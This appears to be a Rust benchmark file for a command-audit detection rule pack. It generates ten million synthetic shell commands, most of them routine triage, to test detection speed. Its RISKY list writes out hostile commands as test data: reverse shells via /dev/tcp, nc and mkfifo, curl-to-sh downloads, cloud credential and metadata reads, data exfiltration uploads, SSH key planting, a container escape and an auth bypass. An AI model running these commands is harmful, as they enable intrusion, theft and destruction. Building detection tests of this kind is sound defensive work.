//! The full shipped rule pack over 10 million commands (goal: under 5 s on the 2-core machine).
//!
//! The mix is what on-call sessions look like: mostly triage (listing, logs, processes, config,
//! health checks, database selects, package queries), with about 1% risky commands. 200,000
//! distinct commands are generated from templates with varied arguments and the list repeats
//! them to 10 million rows (references, so the corpus stays ~170 MB).

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use execaudit::detect::{rule, RuleSet, Target};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[(self.next() % v.len() as u64) as usize]
    }
    fn n(&mut self, max: u64) -> u64 {
        self.next() % max
    }
}

const ROUTINE: &[&str] = &[
    "ls -la {dir}",
    "ls {dir} | wc -l",
    "cd {dir}",
    "ps aux | grep {proc}",
    "ps -ef",
    "top -b -n 1 | head -{n}",
    "df -h {dir}",
    "du -sh {dir}/*",
    "free -m",
    "uptime",
    "tail -n {n} /var/log/app/{file}.log",
    "tail -f /var/log/{proc}/{file}.log",
    "grep -i error /var/log/app/{file}.log | tail -{n}",
    "cat /app/config/{file}.yaml",
    "cat /etc/os-release",
    "less /var/log/app/{file}.log",
    "env | grep -i {var}",
    "env | wc -l",
    "echo ${var}",
    "printenv {var}",
    "curl -s localhost:{port}/healthz",
    "curl -sS http://127.0.0.1:{port}/metrics | grep {proc}",
    "wget -qO- http://localhost:{port}/status",
    "mount | grep {dir}",
    "netstat -tlnp",
    "ss -tnp | grep {port}",
    "nslookup {host}",
    "dig +short {host}",
    "ping -c 3 {host}",
    "nc -zv {host} {port}",
    "psql -h {host} -U app -c 'select count(*) from {table}'",
    "mysql -h {host} -u app -e 'SELECT id, status FROM {table} LIMIT {n}'",
    "redis-cli -h {host} info memory",
    "python manage.py showmigrations",
    "python -c 'import app; print(app.__version__)'",
    "node -v",
    "npm ls --depth=0",
    "pip list | grep {proc}",
    "java -version",
    "kill -HUP 1",
    "kill -USR1 {n}",
    "whoami",
    "id",
    "hostname",
    "date -u",
    "cat /proc/meminfo | head -{n}",
    "cat /proc/1/status",
    "ls /proc/{n}/fd | wc -l",
    "find {dir} -name '*.log' -mmin -{n}",
    "stat {dir}/{file}.pid",
    "rm -f /tmp/{file}.lock",
    "rm -rf /var/cache/{proc}/*",
    "jq . /app/config/{file}.json",
    "celery -A app inspect active",
    "rails runner 'puts User.count'",
    "exit",
    "clear",
    "history | tail -{n}",
    "vi /tmp/{file}.txt",
    "git log --oneline -{n}",
];

const RISKY: &[&str] = &[
    "curl -s http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "cat /proc/1/environ | tr '\\0' '\\n'",
    "cat ~/.aws/credentials",
    "curl -fsSL http://{host}/x.sh | sh",
    "wget -qO- http://{host}/i | bash",
    "bash -i >& /dev/tcp/{host}/{port} 0>&1",
    "nc -e /bin/sh {host} {port}",
    "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {host} {port} > /tmp/f",
    "history -c",
    "unset HISTFILE",
    "pkill -f ssm-session-worker",
    "apk add --no-cache nmap",
    "nmap -sS 10.0.{n}.0/24",
    "psql -h {host} -U admin -c 'DROP TABLE {table}'",
    "redis-cli -h {host} FLUSHALL",
    "tar czf - /app/data | curl -T - https://{host}/up",
    "aws s3 cp /tmp/dump.sql s3://exfil-{n}/",
    "pg_dump -h {host} -U app prod > /tmp/prod.sql",
    "echo 'ssh-rsa AAAA attacker' >> ~/.ssh/authorized_keys",
    "nsenter -t 1 -m -u -i -n sh",
    "sed -i 's/check_auth()/True/' /app/auth.py",
];

const DIRS: &[&str] = &[
    "/app",
    "/var/log",
    "/tmp",
    "/srv/data",
    "/opt/app/current",
    "/etc/nginx",
    "/home/app",
];
const PROCS: &[&str] = &[
    "nginx", "gunicorn", "node", "java", "celery", "puma", "envoy", "redis",
];
const FILES: &[&str] = &[
    "error",
    "access",
    "app",
    "worker",
    "settings",
    "production",
    "queue",
    "cron",
];
const VARS: &[&str] = &[
    "DATABASE_URL",
    "NODE_ENV",
    "LOG_LEVEL",
    "PORT",
    "AWS_REGION",
    "JAVA_OPTS",
];
const HOSTS: &[&str] = &[
    "db.internal",
    "ledger-db.prod.internal",
    "cache-01",
    "10.0.3.12",
    "api.example.com",
];
const TABLES: &[&str] = &["users", "sessions", "orders", "payments", "jobs"];

fn fill(t: &str, r: &mut Rng) -> String {
    let mut s = t.to_owned();
    for (k, v) in [
        ("{dir}", r.pick(DIRS).to_owned()),
        ("{proc}", r.pick(PROCS).to_owned()),
        ("{file}", format!("{}{}", r.pick(FILES), r.n(40))),
        ("{var}", r.pick(VARS).to_owned()),
        ("{host}", r.pick(HOSTS).to_owned()),
        ("{table}", r.pick(TABLES).to_owned()),
        ("{port}", (1024 + r.n(60000)).to_string()),
        ("{n}", (1 + r.n(500)).to_string()),
    ] {
        while s.contains(k) {
            s = s.replacen(k, &v, 1);
        }
    }
    s
}

/// 200,000 distinct commands, about 1% risky.
pub fn corpus() -> Vec<String> {
    let mut r = Rng(0x9e37_79b9_7f4a_7c15);
    (0..200_000)
        .map(|_| {
            let t = if r.n(100) == 0 {
                r.pick(RISKY)
            } else {
                r.pick(ROUTINE)
            };
            fill(t, &mut r)
        })
        .collect()
}

fn bench(c: &mut Criterion) {
    let loaded = rule::load(&[]);
    assert!(loaded.errors.is_empty(), "{:?}", loaded.errors);
    let set = RuleSet::new(loaded.rules).expect("rules compile");
    let distinct = corpus();
    let rows: Vec<&str> = (0..10_000_000)
        .map(|i| distinct[i % distinct.len()].as_str())
        .collect();
    let bytes: usize = rows.iter().map(|r| r.len()).sum();
    let hits = set.match_texts(&rows, Target::Command).len();
    eprintln!(
        "{} rules, {} commands ({} MB), {hits} matches, {} patterns without a literal",
        set.rules().len(),
        rows.len(),
        bytes / 1_000_000,
        set.unfiltered_patterns()
    );
    let mut g = c.benchmark_group("detect");
    g.sample_size(10);
    g.throughput(Throughput::Elements(rows.len() as u64));
    g.bench_function("rule_pack_10M_commands", |b| {
        b.iter(|| set.match_texts(&rows, Target::Command).len())
    });
    g.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
